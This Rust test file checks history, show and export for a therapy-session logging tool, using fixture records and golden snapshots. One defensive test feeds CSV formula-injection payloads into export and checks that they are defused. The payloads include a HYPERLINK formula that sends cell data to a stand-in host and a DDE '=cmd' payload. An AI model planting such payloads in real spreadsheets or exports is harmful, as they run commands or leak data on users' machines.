//! History, show and export against golden files. A fixed set of records is
//! written through the real journal (`FileJournal`, fixed stamps with fixed
//! offsets, so ids and output never depend on the machine's time zone), each
//! session run through the real engine: two clients (one with a comma in
//! the reference), a long accented name set aside, a practice run, a
//! session cut off, a record damaged in the middle and a file of garbage.

use std::path::{Path, PathBuf};

use stillpoint::clock::Moment;
use stillpoint::hint::report;
use stillpoint::history::{Filter, Format, HistoryError, INDEX, export, history, show};
use stillpoint::protocol::catalog::{BUNDLED, Source, text_hash};
use stillpoint::protocol::{Protocol, Region};
use stillpoint::session::engine::{Effect, Input, Session};
use stillpoint::session::folder::find;
use stillpoint::session::journal::{FileJournal, Journal};
use stillpoint::session::record::{
    Aftercare, Caution, Condition, Entry, Intake, LOG_VERSION, Logged, Opened, Release, Stamp,
};
use stillpoint::session::report::Report;

/// Something the therapist did, `at` seconds into the record.
#[derive(Clone, Copy)]
pub(crate) enum Act {
    Next,
    Pause,
    Resume,
    Quit,
    Note(&'static str),
    Rhythm(f64),
    StillPoint { secs: u64 },
}

/// How the record ends.
#[derive(Clone, Copy, PartialEq)]
pub(crate) enum End {
    /// Closing questions (if any), then the closing summary.
    Closed,
    /// Cut off at this moment (s).
    Cut(u64),
    /// Cut off, then set aside at the resume offer.
    SetAside(u64),
}

/// One session to write.
pub(crate) struct Plan {
    /// Local time as recorded, with its offset.
    pub(crate) stamp: &'static str,
    /// The bundled protocol's stem (see [`write_with`] for another).
    pub(crate) protocol: &'static str,
    pub(crate) client: Option<&'static str>,
    /// Pain and stress at the consultation.
    pub(crate) before: Option<(u8, u8)>,
    /// Pain, stress and note at the closing questions.
    pub(crate) after: Option<(Option<u8>, Option<u8>, &'static str)>,
    pub(crate) acts: &'static [(u64, Act)],
    pub(crate) end: End,
}

fn bundled(stem: &str) -> (&'static str, &'static str) {
    *BUNDLED
        .iter()
        .find(|(s, _)| *s == stem)
        .expect("a bundled protocol")
}

fn drive(s: &mut Session, log: &mut Vec<Logged>, input: Input, at: u64) {
    for e in s.handle(input, Moment::from_secs(at)) {
        if let Effect::Log(l) = e {
            log.push(l);
        }
    }
}

/// Writes `plan` into `dir` through the journal; returns the record's path.
pub(crate) fn write(dir: &Path, plan: &Plan) -> PathBuf {
    let (stem, text) = bundled(plan.protocol);
    write_with(dir, plan, stem, text)
}

/// [`write`] with the protocol in `text` (recorded as from `stem`)
/// instead of the bundled `plan.protocol`: for names and steps no bundled
/// protocol has.
pub(crate) fn write_with(dir: &Path, plan: &Plan, stem: &str, text: &str) -> PathBuf {
    let protocol = Protocol::parse(text, Path::new(stem)).expect("a valid protocol");
    let stamp: jiff::Zoned = format!("{0}[{1}]", plan.stamp, &plan.stamp[19..])
        .parse()
        .expect("stamp");
    let opened = Opened {
        version: LOG_VERSION,
        protocol: protocol.name.to_string(),
        source: Source::Bundled(stem.into()).label(),
        hash: text_hash(text),
        client: plan.client.map(str::to_owned),
        practice: plan.client.is_none(),
        speed: 1.0,
        opened: Some(Stamp::of(&stamp)),
        app: "test".into(),
    };
    let mut log = vec![Logged {
        at: Moment::ZERO,
        entry: Entry::Opened(opened.clone()),
    }];
    if let (Some(client), Some((pain, stress))) = (plan.client, plan.before) {
        log.push(Logged {
            at: Moment::from_secs(30),
            entry: Entry::Intake(Intake {
                client: client.into(),
                focus: vec![Region::Neck, Region::Sacrum],
                focus_note: "stiff in the mornings".into(),
                pain,
                stress,
                releases: vec![Release {
                    condition: Condition::RecentConcussion,
                    released: true,
                }],
                cautions: vec![Caution::Elderly],
            }),
        });
    }
    let mut s = Session::new(protocol);
    drive(&mut s, &mut log, Input::Next, 60);
    let stop = match plan.end {
        End::Closed => u64::MAX,
        End::Cut(t) | End::SetAside(t) => t,
    };
    let mut t = 60;
    let mut still_from = None;
    while t < stop && !s.is_finished() && t < 4 * 3600 {
        t += 5;
        let mut acted = false;
        for (_, act) in plan.acts.iter().filter(|(at, _)| *at == t) {
            let at = Moment::from_secs(t);
            let step = s.current();
            match *act {
                Act::Next => drive(&mut s, &mut log, Input::Next, t),
                Act::Pause => drive(&mut s, &mut log, Input::Pause, t),
                Act::Resume => drive(&mut s, &mut log, Input::Resume, t),
                Act::Quit => drive(&mut s, &mut log, Input::Quit, t),
                Act::Note(text) => log.push(Logged {
                    at,
                    entry: Entry::note(text),
                }),
                Act::Rhythm(cpm) => log.push(Logged {
                    at,
                    entry: Entry::Rhythm {
                        cpm,
                        taps: 4,
                        time: Default::default(),
                    },
                }),
                Act::StillPoint { secs } => {
                    log.push(Logged {
                        at,
                        entry: Entry::StillPointStarted {
                            step,
                            time: Default::default(),
                        },
                    });
                    still_from = Some((t + secs, step, secs));
                }
            }
            acted |= matches!(*act, Act::Next | Act::Pause | Act::Resume | Act::Quit);
        }
        if let Some((end, step, secs)) = still_from
            && end == t
        {
            log.push(Logged {
                at: Moment::from_secs(t),
                entry: Entry::StillPointEnded {
                    step,
                    length: std::time::Duration::from_secs(secs),
                    time: Default::default(),
                },
            });
            still_from = None;
        }
        if !acted {
            drive(&mut s, &mut log, Input::Tick, t);
        }
    }
    match plan.end {
        End::Closed => {
            if let Some((pain, stress, note)) = plan.after {
                log.push(Logged {
                    at: Moment::from_secs(t + 60),
                    entry: Entry::Aftercare(Aftercare {
                        pain,
                        stress,
                        note: note.into(),
                    }),
                });
            }
            let summary = Report::from_entries(&log).summary();
            log.push(Logged {
                at: Moment::from_secs(t + 90),
                entry: Entry::Closed(summary),
            });
        }
        End::Cut(_) | End::SetAside(_) => {
            log.extend(s.progress_now(Moment::from_secs(t)));
            log.push(Logged {
                at: Moment::from_secs(t),
                entry: Entry::Interrupted {
                    reason: "the terminal went away".into(),
                },
            });
            if matches!(plan.end, End::SetAside(_)) {
                log.push(Logged {
                    at: Moment::from_secs(t),
                    entry: Entry::Abandoned,
                });
            }
        }
    }
    let mut j = FileJournal::create(dir, &opened, &stamp).expect("journal");
    for l in &log[1..] {
        j.append(l).expect("append");
    }
    j.path().to_owned()
}

const PLANS: &[Plan] = &[
    // Summer time: +02:00. Set aside at the offer; a long accented name.
    Plan {
        stamp: "2026-10-24T16:45:00+02:00",
        protocol: "relaxation-30",
        client: Some("Élodie Moreau-Vasquez de la Fontaine"),
        before: Some((3, 8)),
        after: None,
        acts: &[(300, Act::Note("prefers the room cooler"))],
        end: End::SetAside(420),
    },
    // Every step worked through, with a pause, marks and a note.
    Plan {
        stamp: "2026-11-02T09:30:00+01:00",
        protocol: "still-point-10",
        client: Some("AB"),
        before: Some((7, 6)),
        after: Some((Some(4), Some(3), "felt lighter, \"like floating\"")),
        acts: &[
            (200, Act::Note("client sighed, shoulders dropped")),
            (250, Act::Rhythm(8.25)),
            (300, Act::StillPoint { secs: 45 }),
            (400, Act::Pause),
            (430, Act::Resume),
            (560, Act::Next),
        ],
        end: End::Closed,
    },
    // The first step left early, then ended during the still point.
    Plan {
        stamp: "2026-11-09T10:00:00+01:00",
        protocol: "still-point-10",
        client: Some("Smith, J"),
        before: Some((4, 8)),
        after: Some((Some(4), Some(5), "")),
        acts: &[(100, Act::Next), (300, Act::Quit)],
        end: End::Closed,
    },
    Plan {
        stamp: "2026-11-16T09:30:00+01:00",
        protocol: "still-point-10",
        client: Some("AB"),
        before: Some((5, 5)),
        after: Some((Some(2), Some(2), "")),
        acts: &[(90, Act::Note("asked for a blanket")), (500, Act::Next)],
        end: End::Closed,
    },
    // Practice: no consultation, no closing answers.
    Plan {
        stamp: "2026-11-20T18:00:00+01:00",
        protocol: "still-point-10",
        client: None,
        before: None,
        after: None,
        acts: &[(480, Act::Next)],
        end: End::Closed,
    },
    // Damaged in the middle afterwards (see `records`).
    Plan {
        stamp: "2026-11-21T12:00:00+01:00",
        protocol: "still-point-10",
        client: Some("AB"),
        before: Some((6, 5)),
        after: None,
        acts: &[(150, Act::Note("written before the damage"))],
        end: End::Cut(300),
    },
    Plan {
        stamp: "2026-11-23T09:30:00+01:00",
        protocol: "still-point-10",
        client: Some("AB"),
        before: Some((6, 4)),
        after: None,
        acts: &[],
        end: End::Cut(260),
    },
];

pub(crate) fn records() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    let sessions = dir.path().join("sessions");
    for p in PLANS {
        let path = write(&sessions, p);
        if p.stamp.starts_with("2026-11-21") {
            // Something other than stillpoint wrote over the fifth line.
            let text = std::fs::read_to_string(&path).expect("read");
            let damaged: Vec<&str> = text
                .lines()
                .enumerate()
                .map(|(i, l)| {
                    if i == 4 {
                        "{\"seq\":4,\"at\":9\u{0}x"
                    } else {
                        l
                    }
                })
                .collect();
            std::fs::write(&path, damaged.join("\n") + "\n").expect("write");
        }
    }
    // Garbage with a record's name, and files that are not records at all.
    std::fs::write(
        sessions.join("20261122-080000-garbage.jsonl"),
        b"\xff\xfe not json\n{\"seq\":1}\n",
    )
    .expect("write");
    std::fs::write(sessions.join("notes.txt"), "not a record").expect("write");
    std::fs::create_dir(sessions.join("a-folder.jsonl")).expect("mkdir");
    dir
}

pub(crate) fn run(f: impl FnOnce(&mut Vec<u8>) -> Result<(), HistoryError>) -> String {
    let mut out = Vec::new();
    f(&mut out).expect("runs");
    String::from_utf8(out).expect("utf-8")
}

/// `show` names the record's file; the temp folder differs every run.
pub(crate) fn scrub(text: &str, dir: &Path) -> String {
    text.replace(&dir.display().to_string(), "[DATA]")
}

fn client(c: &str) -> Filter {
    Filter {
        client: Some(c.into()),
        ..Filter::default()
    }
}

#[test]
fn history_lists_every_record_oldest_first() {
    let dir = records();
    let s = dir.path().join("sessions");
    insta::assert_snapshot!("history", run(|o| history(&s, &Filter::default(), o)));
    let since = Filter {
        since: Some("2026-11-16".parse().expect("date")),
        ..Filter::default()
    };
    insta::assert_snapshot!("history_since", run(|o| history(&s, &since, o)));
}

#[test]
fn one_clients_history_has_a_chart() {
    let dir = records();
    let s = dir.path().join("sessions");
    let text = run(|o| history(&s, &client("ab"), o));
    insta::assert_snapshot!("history_client", text);
    let chart = text.split_once("\n\n").map_or("", |(_, c)| c);
    let chart = chart.split_once("\n\n").map_or("", |(_, c)| c);
    assert!(chart.contains("Pain, 0–10"), "{chart}");
    for line in chart.lines() {
        assert!(
            line.chars().count() <= 80,
            "wider than 80 columns: {line:?}"
        );
    }
    // One session with answers is no chart, and says so.
    let one = run(|o| history(&s, &client("smith, j"), o));
    assert!(one.contains("needs two sessions with answers"), "{one}");
    assert_eq!(
        run(|o| history(&s, &client("ZZ"), o)),
        "No sessions for client ZZ. 8 sessions recorded in all.\n"
    );
}

#[test]
fn show_prints_one_session_in_full() {
    let dir = records();
    let s = dir.path().join("sessions");
    let shown = |id: &str| scrub(&run(|o| show(&s, id, o)), dir.path());
    insta::assert_snapshot!("show", shown("20261102-093000"));
    insta::assert_snapshot!("show_ended_early", shown("20261109"));
    insta::assert_snapshot!("show_damaged", shown("20261121"));
    insta::assert_snapshot!(
        "show_interrupted",
        shown("20261123-093000-still-point-10-minutes")
    );
    insta::assert_snapshot!("show_set_aside", shown("20261024"));
    // A path works as well as an id, and shows the same.
    let path = s.join("20261123-093000-still-point-10-minutes.jsonl");
    assert_eq!(shown(&path.display().to_string()), shown("20261123-0930"));
    // Garbage is shown for what it is rather than refused.
    let garbage = shown("20261122");
    assert!(
        garbage.contains("damaged: lines 1, 2 could not be read"),
        "{garbage}"
    );
}

#[test]
fn show_explains_unknown_and_ambiguous_names() {
    let dir = records();
    let s = dir.path().join("sessions");
    let mut out = Vec::new();
    let err = scrub(
        &report(&show(&s, "202611", &mut out).expect_err("ambiguous")),
        dir.path(),
    );
    insta::assert_snapshot!("show_ambiguous", err);
    let err = scrub(
        &report(&show(&s, "20250101", &mut out).expect_err("unknown")),
        dir.path(),
    );
    insta::assert_snapshot!("show_unknown", err);
    let empty = tempfile::tempdir().expect("temp dir");
    let err = report(&show(empty.path(), "2026", &mut out).expect_err("nothing there"));
    assert!(err.contains("no sessions are recorded there yet"), "{err}");
    assert!(out.is_empty(), "nothing printed on errors");
}

#[test]
fn ids_are_found_exactly_by_a_unique_start_or_by_path() {
    let dir = tempfile::tempdir().expect("temp dir");
    let s = dir.path().join("sessions");
    // Two records opened in the same second with the same protocol: the
    // journal names the second one `…-1`, and the first one's whole id is
    // the start of the second's.
    let plan = |stamp| Plan {
        stamp,
        protocol: "still-point-10",
        client: None,
        before: None,
        after: None,
        acts: &[],
        end: End::Cut(70),
    };
    let first = write(&s, &plan("2026-11-02T09:30:00+01:00"));
    let second = write(&s, &plan("2026-11-02T09:30:00+01:00"));
    let other = write(&s, &plan("2026-11-03T09:30:00+01:00"));
    let id = |p: &Path| {
        p.file_stem()
            .and_then(|s| s.to_str())
            .expect("stem")
            .to_owned()
    };
    assert_eq!(id(&second), format!("{}-1", id(&first)));
    assert_eq!(find(&s, &id(&first)).ok(), Some(first.clone()));
    assert_eq!(
        find(&s, &format!("{}.jsonl", id(&first))).ok(),
        Some(first.clone())
    );
    assert_eq!(find(&s, &id(&second)).ok(), Some(second.clone()));
    assert_eq!(find(&s, "20261103").ok(), Some(other.clone()));
    assert_eq!(
        find(&s, &other.display().to_string()).ok(),
        Some(other.clone())
    );
    assert!(find(&s, "20261102-0930").is_err_and(|e| e.to_string().contains("any of 2 sessions")));
    assert!(find(&s, "").is_err());
    // The ids history prints are the ones find takes back.
    let table = run(|o| history(&s, &Filter::default(), o));
    let shown: Vec<&str> = table
        .lines()
        .skip(1)
        .take(3)
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    assert_eq!(
        shown,
        [
            "20261102-093000-still-point-10-minutes",
            "20261102-093000-still-point-10-minutes-",
            "20261103-093000"
        ]
    );
    for (short, path) in shown.iter().zip([&first, &second, &other]) {
        assert_eq!(find(&s, short).as_ref().ok(), Some(path), "{short}");
    }
}

#[test]
fn exports_in_three_formats() {
    let dir = records();
    let s = dir.path().join("sessions");
    let all = Filter::default();
    let csv = run(|o| export(&s, &all, Format::Csv, o));
    insta::assert_snapshot!("export_csv", csv);
    // Every row has the header's fifteen fields, commas and quotes included.
    for row in parse_csv(&csv) {
        assert_eq!(row.len(), 15, "{row:?}");
    }
    assert!(parse_csv(&csv).iter().any(|r| r[2] == "Smith, J"));

    insta::assert_snapshot!("export_md", run(|o| export(&s, &all, Format::Md, o)));

    let json = run(|o| export(&s, &all, Format::Json, o));
    let value: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
    assert_eq!(value.as_array().map(Vec::len), Some(8));
    insta::assert_snapshot!("export_json", json);

    // Filters apply to exports as to history.
    let ab = Filter {
        client: Some("AB".into()),
        since: Some("2026-11-10".parse().expect("date")),
        ..Filter::default()
    };
    let json = run(|o| export(&s, &ab, Format::Json, o));
    let value: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
    let ids: Vec<&str> = value
        .as_array()
        .expect("array")
        .iter()
        .filter_map(|v| v["id"].as_str())
        .collect();
    assert_eq!(
        ids,
        [
            "20261116-093000-still-point-10-minutes",
            "20261121-120000-still-point-10-minutes",
            "20261123-093000-still-point-10-minutes"
        ]
    );
}

#[test]
fn csv_cells_a_spreadsheet_would_run_as_formulas_are_defused() {
    let dir = tempfile::tempdir().expect("temp dir");
    let s = dir.path().join("sessions");
    let plan = |stamp, client| Plan {
        stamp,
        protocol: "still-point-10",
        client: Some(client),
        before: Some((5, 5)),
        after: Some((Some(3), Some(3), "")),
        acts: &[],
        end: End::Closed,
    };
    let clients = [
        (
            "2026-11-02T09:30:00+01:00",
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
        ),
        ("2026-11-03T09:30:00+01:00", "+1-2"),
        ("2026-11-04T09:30:00+01:00", "-2+3"),
        ("2026-11-05T09:30:00+01:00", "@SUM(1,2)"),
        ("2026-11-06T09:30:00+01:00", "\t=1+1"),
        ("2026-11-07T09:30:00+01:00", "A-B"),
    ];
    for (stamp, client) in clients {
        write(&s, &plan(stamp, client));
    }
    // A protocol whose name starts like a formula, too.
    let protocol = BUNDLED[2]
        .1
        .replace("\"Still point, 10 minutes\"", "\"=cmd|' /C calc'!A0\"");
    write_with(
        &s,
        &plan("2026-11-08T09:30:00+01:00", "AB"),
        "formula",
        &protocol,
    );
    let csv = run(|o| export(&s, &Filter::default(), Format::Csv, o));
    let rows = parse_csv(&csv);
    assert_eq!(rows.len(), 1 + 7, "{csv}");
    for row in &rows {
        assert_eq!(row.len(), 15, "still RFC 4180: {row:?}");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let client_cells: Vec<&str> = rows[1..7].iter().map(|r| r[2].as_str()).collect();
    assert_eq!(
        client_cells,
        [
            "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
            "'+1-2",
            "'-2+3",
            "'@SUM(1,2)",
            // A cell is one line: the tab became a space, which no
            // spreadsheet runs.
            " =1+1",
            "A-B"
        ]
    );
    assert_eq!(rows[7][3], "'=cmd|' /C calc'!A0");
    // The numbers the program writes are numbers still.
    assert_eq!(rows[1][6].parse::<u64>().ok().map(|_| ()), Some(()));
    assert_eq!(&rows[1][9..13], ["5", "3", "5", "3"]);
}

/// A strict little RFC 4180 reader, to check what export writes.
pub(crate) fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, '"') => panic!("a bare quote inside a field: {field}"),
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(!quoted && field.is_empty() && row.is_empty(), "ends a row");
    rows
}

#[test]
fn an_empty_or_missing_folder_is_no_error() {
    let dir = tempfile::tempdir().expect("temp dir");
    let missing = dir.path().join("nothing-here");
    for folder in [dir.path(), missing.as_path()] {
        assert_eq!(
            run(|o| history(folder, &Filter::default(), o)),
            "No sessions recorded yet.\n"
        );
        assert_eq!(
            run(|o| history(folder, &client("AB"), o)),
            "No sessions recorded yet.\n"
        );
        assert_eq!(
            run(|o| export(folder, &Filter::default(), Format::Csv, o))
                .lines()
                .count(),
            1,
            "just the header"
        );
        assert_eq!(
            run(|o| export(folder, &Filter::default(), Format::Json, o)),
            "[]\n"
        );
        assert_eq!(
            run(|o| export(folder, &Filter::default(), Format::Md, o)),
            ""
        );
    }
    assert!(!missing.exists(), "reading makes no folders");
}

#[test]
fn bad_files_never_stop_history() {
    let dir = records();
    let s = dir.path().join("sessions");
    std::fs::write(s.join("20261124-000000-empty.jsonl"), "").expect("write");
    std::fs::write(s.join("20261124-000001-nul.jsonl"), [0u8; 100]).expect("write");
    std::fs::write(s.join("20261124-000002-bare.jsonl"), "\n\n\n").expect("write");
    // A closing line with nonsense in it: read whole instead.
    std::fs::write(
        s.join("20261124-000003-odd.jsonl"),
        "{\"seq\":0,\"at\":0,\"event\":\"closed\",\"opened\":7}\n",
    )
    .expect("write");
    let text = run(|o| history(&s, &Filter::default(), o));
    assert!(
        text.contains("12 sessions (1 interrupted, 1 set aside, 6 damaged)"),
        "{text}"
    );
    for format in [Format::Csv, Format::Md, Format::Json] {
        run(|o| export(&s, &Filter::default(), format, o));
    }
    for id in [
        "20261124-000000",
        "20261124-000001",
        "20261124-000002",
        "20261124-000003",
    ] {
        let shown = run(|o| show(&s, id, o));
        assert!(shown.contains("damaged"), "{shown}");
    }
}

#[test]
fn the_index_only_saves_reading_and_is_rebuilt_when_damaged() {
    let dir = records();
    let s = dir.path().join("sessions");
    let first = run(|o| history(&s, &Filter::default(), o));
    let index = std::fs::read_to_string(s.join(INDEX)).expect("index");
    assert_eq!(
        index.lines().count(),
        6,
        "the four closed records, the one cut off and the one set aside:\n{index}"
    );
    // Served from the index, the same table.
    assert_eq!(run(|o| history(&s, &Filter::default(), o)), first);
    // A damaged index is no worse than none.
    std::fs::write(s.join(INDEX), "garbage\n{\"id\":\"gone\",").expect("w");
    assert_eq!(run(|o| history(&s, &Filter::default(), o)), first);
    // A record deleted by hand disappears, whatever the index says.
    std::fs::remove_file(s.join("20261109-100000-still-point-10-minutes.jsonl")).expect("rm");
    let after = run(|o| history(&s, &Filter::default(), o));
    assert!(!after.contains("Smith"), "{after}");
}
